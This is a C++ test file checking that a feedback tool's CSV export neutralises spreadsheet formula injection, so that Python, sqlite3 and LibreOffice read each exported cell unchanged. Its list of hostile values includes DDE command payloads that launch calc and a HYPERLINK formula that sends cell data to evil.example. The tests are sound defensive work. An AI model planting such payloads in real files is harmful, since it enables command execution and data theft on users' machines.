#include "feedback/feedback_log.h"
#include "lecternctl/program.h"
#include "support/fixtures.h"
#include "support/skip.h"

#include <SQLiteCpp/SQLiteCpp.h>

using namespace program;
namespace fs = std::filesystem;

namespace {

bool installed(std::string const& command)
{
    if (std::system(("command -v " + command + " >/dev/null 2>&1").c_str()) == 0)
        return true;
    tests::skip(command + " is not installed");
    return false;
}

/// A shell's line that has LibreOffice read a CSV file and write it as flat XML. The comma, the double quote and UTF-8,
/// as docs/maintenance.md says.
std::string as_sheet(std::string const& file)
{
    return "HOME=\"$PWD\" timeout 300 soffice -env:UserInstallation=file://\"$PWD\"/profile --headless "
           "--infilter=CSV:44,34,76,1 --convert-to fods "
        + file;
}

/// Whether LibreOffice is here and whole: its start script alone can be left over, and it can lack Calc. The tests do
/// not ask for the package (it would drive a desktop's own LibreOffice out); .ci/run does.
bool converts_sheets()
{
    if (!installed("soffice"))
        return false;
    fixtures::TemporaryFolder const folder;
    write_file(folder.path() / "plain.csv", "a,b\n1,2\n");
    std::string const line = "cd '" + folder.path().string() + "' && " + as_sheet("plain.csv") + " >output 2>&1";
    if (std::system(line.c_str()) == 0 && fs::exists(folder.path() / "plain.fods"))
        return true;
    tests::skip("soffice can't convert a plain CSV file here");
    return false;
}

/// Everything that might run, break a line, or get lost, in every column that may hold it.
std::vector<std::string> hostile_texts()
{
    std::vector<std::string> texts { "plain", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
        "+1+1", "-1-1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "'=1+1",
        "\"=1+1\"", ";=1+1", "a,=1+1", "DDE(\"cmd\";\"/C calc\";\"x\")", "=1+1;2", "a\r\nb", "a\n\nb", "\"\"", "\"",
        "'", "''", ",,,", "007", "10/10", "1e9", "12345678901234567890", "\xE2\x80\xAEright to left\xE2\x80\xAC",
        "\xE2\x80\x8F"
        "عربي",
        "\xEF\xBB\xBF"
        "mark",
        std::string("a\0b", 3), "not \xFF\xFE UTF-8", "\xED\xA0\x80 surrogate", std::string(2000, 'x'),
        "ends with a backslash\\", "日本語 🙂", "  blanks around  " };
    return texts;
}

void add_hostile_rows(fs::path const& folder)
{
    REQUIRE(feedback::FeedbackLog::open(folder, std::chrono::year { 2026 } / 11 / 22));
    SQLite::Database log(folder / "log.db", SQLite::OPEN_READWRITE);
    SQLite::Statement add(log,
        "INSERT INTO feedback (id, week, article, language, rating, reasons, comment) VALUES (?, ?, ?, ?, ?, ?, ?)");
    int row = 0;
    for (std::string const& text : hostile_texts())
        for (int column = 2; column <= 7; ++column) {
            std::string const id = "hostile row " + std::to_string(1000 + row++);
            add.reset();
            add.bind(1, id.data(), 16);
            for (int each = 2; each <= 7; ++each)
                add.bind(each,
                    each == column  ? text
                        : each == 2 ? "2026-W40"
                        : each == 6 ? "[\"hard_to_read\"]"
                                    : "usual");
            add.exec();
        }
}

/// A folder with the hostile rows in each format, named a.csv, a.jsonl and a.sqlite.
struct Exports {
    fixtures::TemporaryFolder data, folder;

    Exports()
    {
        add_hostile_rows(data.path());
        for (std::string const format : { "csv", "jsonl", "sqlite" }) {
            fixtures::TemporaryFolder const stick;
            Outcome const outcome
                = run({ "feedback", "export", "--to", stick.path(), "--format", format, "--data", data.path() });
            REQUIRE_MESSAGE(outcome.status == 0, outcome.err);
            for (auto const& entry : fs::directory_iterator(stick.path()))
                if (entry.path().extension() == "." + format)
                    fs::copy_file(entry.path(), folder.path() / ("a." + format));
        }
    }

    /// Runs a shell's line in the folder; what it printed, errors included.
    [[nodiscard]] std::string run_in(std::string const& line) const
    {
        int const status = std::system(("cd '" + folder.path().string() + "' && (" + line + ") >output 2>&1").c_str());
        std::string const output = content_of(folder.path() / "output");
        CHECK_MESSAGE(status == 0, output);
        return output;
    }

    void write(std::string const& name, std::string const& content) const { write_file(folder.path() / name, content); }
};

/// Compares what a reader made of the CSV with the JSON lines, in which nothing is neutralised.
constexpr char const* k_compare = R"(
import json
def as_text(value):
    if value is None: return ""
    if isinstance(value, bool): return str(int(value))
    return (" ".join(value) if isinstance(value, list) else value).replace("\0", "\ufffd")
def compare(header, rows, same=lambda text: text):
    lines = [json.loads(line) for line in open("a.jsonl", encoding="utf-8")]
    assert header == list(lines[0]), header
    assert len(rows) == len(lines), (len(rows), len(lines))
    for cells, line in zip(rows, lines):
        assert len(cells) == len(header), cells
        for cell, (key, value) in zip(cells, line.items()):
            assert not cell or cell[0] not in "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20", (key, cell)
            original = cell[1:] if cell.startswith("'") else cell
            assert same(original) == same(as_text(value)), (key, cell, value)
    print(len(rows), "rows are the same")
)";

constexpr char const* k_read_csv = R"(
import csv, compare
rows = list(csv.reader(open("a.csv", encoding="utf-8", newline=""), strict=True))
compare.compare(rows[0], rows[1:])
)";

/// LibreOffice's flat XML: no cell may hold a formula, and each is what stood in the file. Its line breaks are all
/// alike.
constexpr char const* k_read_sheet = R"(
import re, compare, xml.etree.ElementTree as tree
TABLE, TEXT = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}", "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}"
OFFICE = "{urn:oasis:names:tc:opendocument:xmlns:office:1.0}"
def words(node):
    special = { TEXT + "s": " " * int(node.get(TEXT + "c", "1")), TEXT + "tab": "\t", TEXT + "line-break": "\n" }.get(node.tag, "")
    return special + (node.text or "") + "".join(words(child) + (child.tail or "") for child in node)
rows = []
for row in tree.parse("a.fods").iter(TABLE + "table-row"):
    cells = []
    for cell in row.findall(TABLE + "table-cell"):
        assert cell.get(TABLE + "formula") is None, cell.attrib
        text = "\n".join(words(line) for line in cell.findall(TEXT + "p"))
        cells += [text] * int(cell.get(TABLE + "number-columns-repeated", "1"))
    cells = (cells + [""] * 11)[:11]
    rows += [cells] if any(cells) else []
def same(text):
    return re.sub("[\r\n]+", "\n", text).strip("\n")
compare.compare(rows[0], rows[1:], same)
)";

/// SQL for the hexadecimal bytes of a cell without its neutralising apostrophe.
std::string plain(std::string const& cell)
{
    return "hex(iif(substr(" + cell + ", 1, 1) = char(39), substr(" + cell + ", 2), " + cell + "))";
}

} // namespace

TEST_CASE("Python reads every cell of a hostile CSV export as it was")
{
    if (!installed("python3"))
        return;
    Exports const exports;
    exports.write("compare.py", k_compare);
    exports.write("read.py", k_read_csv);
    CHECK(
        contains(exports.run_in("python3 read.py"), std::to_string(hostile_texts().size() * 6) + " rows are the same"));
}

TEST_CASE("the sqlite3 shell imports a hostile CSV export, and it holds what the SQLite export holds")
{
    if (!installed("sqlite3"))
        return;
    Exports const exports;
    std::string const rows = std::to_string(hostile_texts().size() * 6);
    CHECK(exports.run_in("sqlite3 a.sqlite 'PRAGMA integrity_check'") == "ok\n");
    // The CSV has neither NUL nor the brackets of a list, and an apostrophe before what a spreadsheet would run.
    std::string same
        = "exported.repeated = read.repeated AND exported.hidden = read.hidden AND exported.sealed = read.sealed";
    for (std::string const column : { "id", "week", "article", "language", "rating", "comment" })
        same += " AND " + plain("read." + column) + " = replace(hex(ifnull(exported." + column
            + ", '')), '00', 'EFBFBD')";
    // A list of reasons is words in the CSV; what is no such list (only a damaged log holds that) stands as it is.
    std::string const as_stored = "replace(hex(exported.reasons), '00', 'EFBFBD')";
    same += " AND iif(exported.reasons = '[\"hard_to_read\"]', read.reasons = 'hard_to_read', " + plain("read.reasons")
        + " = " + as_stored + ")";
    exports.write("read.sql",
        ".import --csv a.csv read\nATTACH 'a.sqlite' AS other;\nSELECT count(*) FROM read;\n"
        "SELECT count(*) FROM read JOIN other.feedback AS exported ON "
            + same + ";\n");
    CHECK(exports.run_in("sqlite3 :memory: < read.sql") == rows + "\n" + rows + "\n");
}

TEST_CASE("LibreOffice runs nothing of a hostile CSV export and loses nothing")
{
    if (!converts_sheets() || !installed("python3"))
        return;
    Exports const exports;
    static_cast<void>(exports.run_in(as_sheet("a.csv")));
    exports.write("compare.py", k_compare);
    exports.write("read.py", k_read_sheet);
    CHECK(
        contains(exports.run_in("python3 read.py"), std::to_string(hostile_texts().size() * 6) + " rows are the same"));
}
